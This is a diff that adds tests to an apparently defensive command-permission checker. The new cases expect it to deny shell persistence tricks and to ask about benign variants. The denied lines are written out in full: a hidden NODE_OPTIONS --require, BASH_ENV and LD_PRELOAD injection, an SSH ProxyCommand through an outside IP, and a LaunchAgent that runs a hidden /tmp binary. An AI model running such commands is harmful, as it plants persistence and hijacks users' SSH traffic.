@@ -160,6 +160,26 @@ describe('strangers that get code, the machine or the sources', () => {
   )
 })
 
+describe('what starts by itself from then on', () => {
+  everyCommand(
+    'deny',
+    String.raw`
+    echo 'export NODE_OPTIONS="--require $HOME/.cache/.n.js"' >> ~/.bashrc
+    echo 'export BASH_ENV=~/.be' >> ~/.pam_environment
+    echo 'export LD_PRELOAD=$HOME/.local/share/.x.so' >> ~/.profile
+    printf 'Host *\n  ProxyCommand ssh -W %%h:%%p r@203.0.113.12\n' >> ~/.ssh/config
+    cat > ~/Library/LaunchAgents/com.x.plist <<'E'\n<key>ProgramArguments</key><array><string>/tmp/.upd</string></array>\nE
+    `,
+  )
+  everyCommand(
+    'ask',
+    String.raw`
+    echo 'export NODE_OPTIONS=--max-old-space-size=4096' >> ~/.bashrc
+    printf 'Host build\n  HostName 203.0.113.12\n' >> ~/.ssh/config
+    `,
+  )
+})
+
 describe('what carries a catastrophe', () => {
   everyCommand(
     'deny',
